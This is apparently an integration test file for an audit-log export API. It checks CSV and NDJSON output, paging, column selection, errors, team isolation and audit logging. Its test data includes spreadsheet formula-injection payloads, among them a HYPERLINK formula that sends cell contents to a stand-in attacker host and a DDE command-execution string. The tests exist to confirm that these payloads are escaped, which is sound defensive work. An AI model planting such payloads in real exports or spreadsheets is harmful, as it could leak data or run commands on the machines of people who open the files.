/**
 * The export API over real HTTP on both stores: every matching row, in order, across pages;
 * CSV quoting and formula-injection escaping checked cell by cell; chosen columns; NDJSON with
 * the raw text; errors before the download starts; the audit trail; team isolation.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/search/export.ts';
import { parseCsv } from '../support/csv.ts';
import { eventually, type Harness, OPERATOR_KEY, startHarness, storeKinds } from './harness.ts';

let h: Harness;

interface ApiEvent {
  id: string;
  '@timestamp': string;
  normalized: Record<string, unknown>;
  original: Record<string, unknown>;
}

const T0 = Date.parse('2026-10-01T00:00:00Z');
/** More than two store pages (1000 each), so the export crosses cursors. */
const N = 2_345;
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A2)',
  '\tindented',
  '\rreturn',
  '  =1+1',
  'comma, "quoted" and\nnewline',
  'plain',
];

async function ingestAll() {
  const lines: string[] = [];
  for (let i = 0; i < N; i++) {
    lines.push(
      JSON.stringify({
        '@timestamp': new Date(T0 + i * 60_000).toISOString(),
        event: { action: i % 2 === 0 ? 'export-even' : 'export-odd', outcome: i % 3 === 0 ? 'failure' : 'success' },
        user: { email: `user${i % 7}@example.com` },
        source: { ip: `10.0.${i % 256}.${i % 200}` },
        message: HOSTILE[i % HOSTILE.length],
        seq: i,
      }),
    );
  }
  for (let i = 0; i < lines.length; i += 1000) {
    const res = await h.call('/api/v1/events?refresh=wait_for', {
      method: 'POST',
      key: h.teams.a.keys.ingest,
      headers: { 'content-type': 'application/x-ndjson' },
      body: lines.slice(i, i + 1000).join('\n'),
    });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { rejected: unknown[] }).rejected).toEqual([]);
  }
}

/** Every matching event through the search API, page by page. */
async function searchAll(params: Record<string, string>, team: 'a' | 'b' = 'a'): Promise<ApiEvent[]> {
  const out: ApiEvent[] = [];
  let cursor: string | null = null;
  do {
    const qs = new URLSearchParams({ ...params, size: '1000', ...(cursor ? { cursor } : {}) });
    const res = await h.call(`/api/v1/events?${qs}`, { key: h.teams[team].keys.read });
    expect(res.status).toBe(200);
    const page = (await res.json()) as { hits: ApiEvent[]; cursor: string | null };
    out.push(...page.hits);
    cursor = page.cursor;
  } while (cursor);
  return out;
}

async function exportText(params: Record<string, string>, team: 'a' | 'b' = 'a') {
  const res = await h.call(`/api/v1/events/export?${new URLSearchParams(params)}`, { key: h.teams[team].keys.read });
  return { res, text: await res.text() };
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "\"'\rx\""],
    ['  =1', "'  =1"],
    ['@timestamp', "'@timestamp"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['', ''],
    ['a-b=c', 'a-b=c'],
  ])('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
});

describe.each(storeKinds('export API'))('export API on %s', (kind) => {
  beforeAll(async () => {
    h = await startHarness(kind);
    await ingestAll();
  }, 180_000);
  afterAll(async () => {
    await h?.close();
  });

  it('exports every matching event as CSV, row by row the same as the search API, across pages', async () => {
    const params = { q: 'event.action:export-even OR event.outcome:failure', from: '2026-09-30T00:00:00Z', to: '2026-10-03T00:00:00Z' };
    const expected = await searchAll(params);
    expect(expected.length).toBeGreaterThan(1000);
    const { res, text } = await exportText({ ...params, format: 'csv' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="auditlog-${h.teams.a.team}-\\d{8}T\\d{6}Z\\.csv"$`));
    const [header, ...rows] = parseCsv(text);
    // Header cells are escaped like any other: a column name comes from the request.
    expect(header).toEqual(["'@timestamp", 'auditlog.id', 'actor', 'event.action', 'event.outcome', 'source.ip', 'user_agent.original', 'message']);
    expect(rows.length).toBe(expected.length);
    rows.forEach((row, i) => {
      const e = expected[i]!;
      const message = String(e.normalized.message ?? '');
      expect(row, `row ${i + 1}`).toEqual([
        e['@timestamp'],
        e.id,
        String(e.normalized['user.email']),
        String(e.normalized['event.action']),
        String(e.normalized['event.outcome']),
        String(e.normalized['source.ip']),
        '',
        /^(?:[=+\-@\t\r]| +[=+\-@])/.test(message) ? `'${message}` : message,
      ]);
    });
    // Each hostile message came through escaped, none as a live formula.
    const messages = new Set(rows.map((r) => r[7]));
    for (const m of ['=HYPERLINK', '+1+cmd', '-2+3', '@SUM', '\tindented', '\rreturn', '  =1+1']) {
      expect([...messages].some((x) => x!.startsWith(`'${m}`)), m).toBe(true);
      expect([...messages].some((x) => x!.startsWith(m)), m).toBe(false);
    }
    expect(messages.has('comma, "quoted" and\nnewline')).toBe(true);
  });

  it('exports the whole range with no row cap, in ascending order when asked', async () => {
    const { res, text } = await exportText({ format: 'csv', sort: 'asc', columns: 'auditlog.id' });
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['auditlog.id']);
    const expected = await searchAll({ sort: 'asc' });
    expect(expected.length).toBe(N);
    expect(rows.map((r) => r[0])).toEqual(expected.map((e) => e.id));
  });

  it('writes the chosen columns, original paths and actor included', async () => {
    const { text } = await exportText({ q: 'seq:7', format: 'csv', columns: 'actor, seq ,event.outcome,original.message,nope' });
    const rows = parseCsv(text);
    expect(rows).toEqual([
      ['actor', 'seq', 'event.outcome', 'original.message', 'nope'],
      ['user0@example.com', '7', 'success', HOSTILE[7], ''],
    ]);
  });

  it('exports NDJSON: the whole event with its raw text, or the chosen columns', async () => {
    const params = { q: 'event.action:export-odd AND event.outcome:failure' };
    const expected = await searchAll(params);
    const { res, text } = await exportText({ ...params, format: 'ndjson' });
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as ApiEvent & { raw: string });
    expect(lines.map((l) => l.id)).toEqual(expected.map((e) => e.id));
    for (const [i, line] of lines.entries()) {
      expect(line.normalized).toEqual(expected[i]!.normalized);
      expect(line.original).toEqual(expected[i]!.original);
      expect(JSON.parse(line.raw)).toEqual(expected[i]!.original);
    }
    const narrow = await exportText({ ...params, format: 'ndjson', columns: 'auditlog.id,event.outcome,missing' });
    const first = JSON.parse(narrow.text.split('\n')[0]!) as Record<string, unknown>;
    expect(first).toEqual({ 'auditlog.id': expected[0]!.id, 'event.outcome': 'failure', missing: null });
  });

  it('answers an empty result with the header alone', async () => {
    const { res, text } = await exportText({ q: 'event.action:nothing-like-this', format: 'csv', columns: 'a,b' });
    expect(res.status).toBe(200);
    expect(text).toBe('a,b\r\n');
  });

  it('refuses a bad query, format or range before the download starts', async () => {
    const bad = await exportText({ q: 'event.action:(a OR', format: 'csv' });
    expect(bad.res.status).toBe(400);
    expect(JSON.parse(bad.text)).toMatchObject({ error: { code: 'QUERY_SYNTAX', details: { column: 19 } } });
    expect((await exportText({ format: 'xlsx' })).res.status).toBe(400);
    expect((await exportText({ from: 'yesterday-ish' })).res.status).toBe(400);
    const tooMany = Array.from({ length: 101 }, (_, i) => `f${i}`).join(',');
    expect((await exportText({ columns: tooMany })).res.status).toBe(400);
  });

  it('needs a read key and never exports another team', async () => {
    expect((await h.call('/api/v1/events/export')).status).toBe(401);
    expect((await h.call('/api/v1/events/export', { key: h.teams.a.keys.ingest })).status).toBe(403);
    const { res, text } = await exportText({ format: 'csv', columns: 'auditlog.id' }, 'b');
    expect(res.status).toBe(200);
    expect(text).toBe('auditlog.id\r\n');
  });

  it('records each export in the audit trail with its query', async () => {
    await exportText({ q: 'audited-export-marker', format: 'ndjson' });
    await eventually(async () => {
      const res = await h.call(`/api/v1/system/events?${new URLSearchParams({ q: `url.path:"/api/v1/events/export" AND organization.id:${h.teams.a.team}` })}`, {
        key: OPERATOR_KEY,
      });
      const page = (await res.json()) as { hits: ApiEvent[] };
      const hit = page.hits.find((e) => JSON.stringify(e.original).includes('audited-export-marker'));
      expect(hit?.normalized).toMatchObject({ 'user.id': h.teams.a.keyIds.read, 'event.outcome': 'success' });
      expect((hit?.original as { request: { query: Record<string, string> } }).request.query).toMatchObject({ format: 'ndjson' });
    });
  });
});
